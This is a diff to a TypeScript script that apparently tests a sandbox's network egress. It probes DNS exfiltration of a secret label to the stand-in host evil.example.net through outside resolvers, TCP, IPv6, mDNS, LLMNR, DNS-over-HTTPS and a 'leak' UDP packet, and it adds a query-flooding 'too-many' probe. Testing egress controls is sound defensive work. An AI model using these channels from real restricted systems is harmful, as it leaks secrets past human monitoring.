@@ -3,7 +3,18 @@ import { randomInt } from "node:crypto";
 import { createSocket } from "node:dgram";
 import { lookup } from "node:dns/promises";
 import { connect, isIP } from "node:net";
-import { failed, https, type Outcome, type Probes, perl, runProbes, udp, way } from "./lib.ts";
+import {
+  DATAGRAM_MS,
+  failed,
+  https,
+  type Outcome,
+  PATIENCE_MS,
+  type Probes,
+  perl,
+  runProbes,
+  udp,
+  way,
+} from "./lib.ts";
 
 const TYPES = {
   A: 1,
@@ -61,7 +72,7 @@ function answer(message: Buffer): Outcome {
   return { kind: "done", detail: `rcode ${(message[3] ?? 0) & 15}, ${count} answers, ${address}` };
 }
 
-function put(server: string, message: Buffer, port = 53): Promise<Outcome> {
+function put(server: string, message: Buffer, port = 53, patience = DATAGRAM_MS): Promise<Outcome> {
   return new Promise((resolve) => {
     const socket = createSocket(isIP(server) === 6 ? "udp6" : "udp4");
     const end = (one: Outcome) => {
@@ -69,7 +80,7 @@ function put(server: string, message: Buffer, port = 53): Promise<Outcome> {
       socket.close();
       resolve(one);
     };
-    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), 1_000);
+    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), patience);
     socket.once("error", (error) => end(failed(error)));
     socket.once("message", (reply) => end(answer(reply)));
     socket.once("connect", () => socket.send(message));
@@ -87,7 +98,7 @@ function putTcp(server: string, message: Buffer): Promise<Outcome> {
       resolve(one);
       socket.destroy();
     };
-    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), 2_000);
+    const timer = setTimeout(() => end({ kind: "failed", code: "TIMEOUT" }), PATIENCE_MS);
     socket.on("error", (error) => end(failed(error)));
     socket.on("data", (chunk: Buffer) => {
       raw = Buffer.concat([raw, chunk]);
@@ -100,15 +111,24 @@ function putTcp(server: string, message: Buffer): Promise<Outcome> {
 
 const label = (index: number) => `${SECRET_LABEL}-${index}.evil.example.net`;
 
+/** Sends questions faster than they are written down, then waits until one more is. */
+async function tooMany(count: number): Promise<Outcome> {
+  const many = Array.from({ length: count }, () => put(OUTSIDE, question(label(1), TYPES.TXT), 53, 3_000));
+  await Promise.all(many);
+  await new Promise((resolve) => setTimeout(resolve, 2_500));
+  return put(OUTSIDE, question(label(1), TYPES.TXT));
+}
+
 const types: Probes = Object.fromEntries(
   Object.entries(TYPES).map(([name, type]) => [`type-${name}`, () => put(OUTSIDE, question(label(1), type))]),
 );
 
 await runProbes({
   ...types,
+  "too-many": () => tooMany(100),
   "own-resolver": async () => ({ kind: "done", detail: (await lookup("api.example.com")).address }),
   "unlisted-name": async () => ({ kind: "done", detail: (await lookup(label(2))).address }),
-  "outside-v6": () => put("2001:4860:4860::8888", question(label(3), TYPES.A)),
+  "outside-v6": () => put("2001:4860:4860::8888", question(label(3), TYPES.A), 53, 1_000),
   "over-tcp": () => putTcp(OUTSIDE, question(label(4), TYPES.A)),
   "txt-over-tcp": () => putTcp(OUTSIDE, question(label(5), TYPES.TXT)),
   "long-name": () => put(OUTSIDE, question(Array(9).fill("a".repeat(31)).join("."), TYPES.A)),
@@ -120,8 +140,8 @@ await runProbes({
   "two-questions": () => put(OUTSIDE, question(label(8), TYPES.A, { count: 2 })),
   "pointer-loop": () => put(OUTSIDE, Buffer.from("123401000001000000000000c00c00010001", "hex")),
   garbage: () => put(OUTSIDE, Buffer.from("not dns at all")),
-  mdns: () => put("224.0.0.251", question(label(9), TYPES.A), 5353),
-  llmnr: () => put("224.0.0.252", question(label(10), TYPES.A), 5355),
+  mdns: () => put("224.0.0.251", question(label(9), TYPES.A), 5353, 1_000),
+  llmnr: () => put("224.0.0.252", question(label(10), TYPES.A), 5355, 1_000),
   "other-port": () => udp("8.8.8.8", 5300, Buffer.from("leak")),
   doh: () => https("dns.google", "/dns-query?dns=AAABAAABAAAAAAAA"),
   "icmp-ping": () =>
